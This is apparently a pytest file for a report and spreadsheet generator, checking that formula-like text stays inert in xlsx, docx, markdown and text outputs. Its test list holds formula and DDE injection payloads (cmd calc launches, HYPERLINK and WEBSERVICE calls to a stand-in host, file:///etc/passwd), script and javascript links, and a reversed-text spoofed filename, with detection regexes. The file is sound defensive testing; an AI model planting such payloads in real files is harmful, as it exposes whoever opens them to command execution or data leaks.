"""Text that looks like a formula stays text in every file written, also when LibreOffice opens and saves it."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from msgspec.structs import replace

from perf_xl import actions
from perf_xl.desk.letters import letters_for, write_letters
from perf_xl.hosts.formula_like import is_formula_like
from perf_xl.hosts.xlsx_draw import drawn
from perf_xl.hosts.xlsx_patch import patched
from perf_xl.layout.book import standard_workbook
from perf_xl.model.department import Department
from perf_xl.model.entry import written
from perf_xl.picture.blueprint import Blueprint, CellDrawing, SheetDrawing
from perf_xl.picture.edit import Edit, Mark, Redraw
from tests.fuzz.bases import small_department
from tests.hosts.received import SHEET, received

pytestmark = pytest.mark.filterwarnings("ignore:.*extension is not supported:UserWarning")
OFFICE = os.environ.get("PERF_XL_SOFFICE") or shutil.which("soffice")

STRINGS = (
    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点我")', "=WEBSERVICE(\"http://x.example\")", "+1+1", "+cmd|' /c calc'!A0",
    "-1+1", "-2+3+cmd|' /c calc'!A0", "@SUM(1,1)", "@1", "\t=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "{=1+1}",
    "'=1+1", '"=1+1', "==1", "=", "+", "%=1", "http://x.example/", "file:///etc/passwd", "mailto:a@b.example", "internal:表!A1",
    "external:c:\\x.xlsx", "=DDE(\"cmd\";\"/c\";\"x\")", "{ DDEAUTO c:\\\\windows\\\\cmd.exe \"/k\" }", "=1+1;=2+2", "1e999", "0x41", "TRUE",
    "2023-01-01", "1/2", "00123", "#REF!", "#N/A")


def drawn_book() -> bytes:
    cells = tuple(CellDrawing(row, column, text, style) for row, text in enumerate(STRINGS, 1)
                  for column, style in enumerate(("table.text", "input.text", "text"), 1))
    return drawn(Blueprint((SheetDrawing("注入", cells),)))


def patched_book() -> bytes:
    edits = [Edit(SHEET, 40 + row, 2, None, text) for row, text in enumerate(STRINGS)]
    marks = [Mark(SHEET, 40 + row, 2, "mark.error", text) for row, text in enumerate(STRINGS)]
    sheet = SheetDrawing("重画", tuple(CellDrawing(row, 1, text, "text") for row, text in enumerate(STRINGS, 1)))
    content, refused = patched(received(), [*edits, *marks, Redraw(sheet)])
    assert refused == []
    return content


def poisoned() -> Department:
    """A department that says such things wherever it can say anything."""
    whole = small_department()
    project = whole.projects[0]
    texts = iter(STRINGS * 9)
    rows = tuple(replace(row, **{name: written(next(texts)) for name in ("level3", "description", "value", "evidence")})
                 for row in project.indicators)
    poison = '=HYPERLINK("http://x.example","a")'
    project = replace(project, name=written(poison), code=written("=1+1"), purpose=written(poison), goal_text=written(poison),
                      unit_body=written('@SUM(1)"&A1&"'), indicators=rows)
    return replace(whole, name=poison, overall_goal=written(poison), projects=(project,))


def in_cells(content: bytes) -> dict[str, list[tuple[str, str]]]:
    """Sheet -> type letter and value of every cell with text, as another reader sees them."""
    book = openpyxl.load_workbook(BytesIO(content))
    return {sheet.title: [(cell.data_type, cell.value) for line in sheet.iter_rows() for cell in line if cell.value is not None]
            for sheet in book.worksheets}


def stays_text(content: bytes, sheet: str, times: int) -> None:
    found = in_cells(content)[sheet]
    for text in STRINGS:
        assert sum(kind == "s" and value in (text, text.replace("\t", "\t")) for kind, value in found) >= times, text
    assert not [value for kind, value in found if kind == "f" and any(text in str(value) for text in STRINGS if len(text) > 4)]


@pytest.mark.parametrize(("make", "sheet", "times"), [(drawn_book, "注入", 3), (patched_book, SHEET, 1), (patched_book, "重画", 1)])
def test_as_written(make: object, sheet: str, times: int) -> None:
    assert callable(make)
    stays_text(make(), sheet, times)


def test_a_cell_that_is_edited_stays_text() -> None:
    """quotePrefix: who opens the cell and presses Enter must not start the formula."""
    for content, sheet, column in ((drawn_book(), "注入", 1), (patched_book(), SHEET, 2), (patched_book(), "重画", 1)):
        book = openpyxl.load_workbook(BytesIO(content))
        quoted = {cell.value: cell.quotePrefix for line in book[sheet].iter_rows(min_col=column, max_col=column) for cell in line
                  if cell.value in STRINGS}
        assert len(quoted) >= len(STRINGS) - 1
        assert {text for text, mark in quoted.items() if mark} == {text for text in quoted if is_formula_like(text)}


@pytest.fixture(scope="module")
def resaved(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """What LibreOffice makes of the files: opened, calculated, saved; one start for all."""
    if OFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    home = tmp_path_factory.mktemp("office")
    (home / "drawn.xlsx").write_bytes(drawn_book())
    (home / "patched.xlsx").write_bytes(patched_book())
    (home / "standard.xlsx").write_bytes(drawn(standard_workbook(poisoned())))
    subprocess.run([OFFICE, f"-env:UserInstallation={(home / 'profile').as_uri()}", "--headless", "--norestore", "--convert-to",
                    "xlsx:Calc MS Excel 2007 XML", "--outdir", str(home / "out"), *(str(file) for file in sorted(home.glob("*.xlsx")))],
                   check=True, capture_output=True, timeout=180)
    return {file.stem: file.read_bytes() for file in (home / "out").iterdir()}


@pytest.mark.office
@pytest.mark.parametrize(("name", "sheet", "times"), [("drawn", "注入", 3), ("patched", SHEET, 1), ("patched", "重画", 1)])
def test_opened_in_libreoffice(resaved: dict[str, bytes], name: str, sheet: str, times: int) -> None:
    found = in_cells(resaved[name])[sheet]
    kept = [text for text in STRINGS if text not in ("\t=1+1", "\n=1+1")]       # blanks may be stored otherwise; never as formulas
    for text in kept:
        assert sum(kind == "s" and value == text for kind, value in found) >= times, text
    assert {value for kind, value in found if kind == "f"} <= {"=B2+D2", "=TRUE()"}


@pytest.mark.office
def test_a_department_that_speaks_in_formulas(resaved: dict[str, bytes]) -> None:
    """Its name, code and texts are shown; what the workbook calculates is only what the layout draws."""
    cells = in_cells(resaved["standard"])
    formulas = [value for found in cells.values() for kind, value in found if kind == "f"]
    assert formulas
    outside_texts = [re.sub(r"'[^']*'|\"[^\"]*\"", "", str(value)) for value in formulas]
    assert not [value for value in outside_texts if re.search(r"HYPERLINK|WEBSERVICE|DDE|cmd", value)]
    shown = [value for found in cells.values() for kind, value in found if kind == "s"]
    assert any('=HYPERLINK("http://x.example","a")' in value for value in shown)


def test_documents_hold_no_fields_of_strangers(tmp_path: Path) -> None:
    actions.report(poisoned(), tmp_path / "a.docx")
    with zipfile.ZipFile(tmp_path / "a.docx") as package:
        xml = package.read("word/document.xml").decode()
        links = "".join(package.read(name).decode() for name in package.namelist() if name.endswith(".rels"))
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)<|w:instr=\"([^\"]*)\"", xml)
    assert not [text for pair in instructions for text in pair if re.search("DDE|HYPERLINK|INCLUDE|http|cmd", text)]
    assert "x.example" not in links
    assert "=HYPERLINK(" in xml


def test_the_web_page_shape_escapes(tmp_path: Path) -> None:
    department = replace(small_department(), name="<script>alert(1)</script>", overall_goal=written("[点](javascript:x) ![](http://x/y.png) `a`"))
    actions.report(department, tmp_path / "a.md")
    text = (tmp_path / "a.md").read_text(encoding="utf-8")
    assert re.search(r"(?<!\\)<script|(?<!\\)\]\(|(?<!\\)`", text) is None


@pytest.mark.office
@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_documents_and_letters_opened_in_a_word_processor(tmp_path: Path) -> None:
    """What it makes of them holds the texts as texts: no link, no exchange of data, no script, no field of theirs."""
    assert OFFICE is not None
    actions.report(poisoned(), tmp_path / "报告.docx")
    actions.write_book(poisoned(), tmp_path / "在.xlsx")
    made = write_letters(letters_for([tmp_path / "在.xlsx"], date(2023, 6, 30))[0], tmp_path / "函")
    documents = [tmp_path / "报告.docx", *(file for each in made for file in each.files if file.suffix == ".docx")]
    assert len(documents) == 2
    subprocess.run([OFFICE, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--norestore", "--convert-to", "fodt",
                    "--outdir", str(tmp_path / "out"), *map(str, documents)], check=True, capture_output=True, timeout=180)
    for document in documents:
        read = (tmp_path / "out" / f"{document.stem}.fodt").read_text(encoding="utf-8")
        assert "=HYPERLINK(" in read
        assert not re.findall(r'xlink:href="(?!#)[^"]*(?:x\.example|cmd|file:///etc|javascript)[^"]*"', read)
        assert not re.search(r"text:dde-connection|text:execute-macro|text:script\b|office:dde-source|text:database", read)


def test_reports_and_letters_in_plain_text_turn_no_direction(tmp_path: Path) -> None:
    """A name may not make the rest of its line read backwards, nor steer the screen it is shown on."""
    whole = replace(poisoned(), name="某局\u202excod.exe\x1b[2J", unit_code="312001")
    actions.write_book(whole, tmp_path / "在.xlsx")
    for name in ("a.txt", "a.md"):
        actions.report(whole, tmp_path / name)
    letters = [file for each in write_letters(letters_for([tmp_path / "在.xlsx"], date(2023, 6, 30), sender=whole.name)[0], tmp_path / "函")
               for file in each.files if file.suffix == ".txt"]
    assert letters
    for file in (tmp_path / "a.txt", tmp_path / "a.md", *letters):
        text = file.read_text(encoding="utf-8-sig")
        assert not set(text) & {"\u202e", "\x1b", "\x00"}, file.name
        assert "\u202e" not in file.name
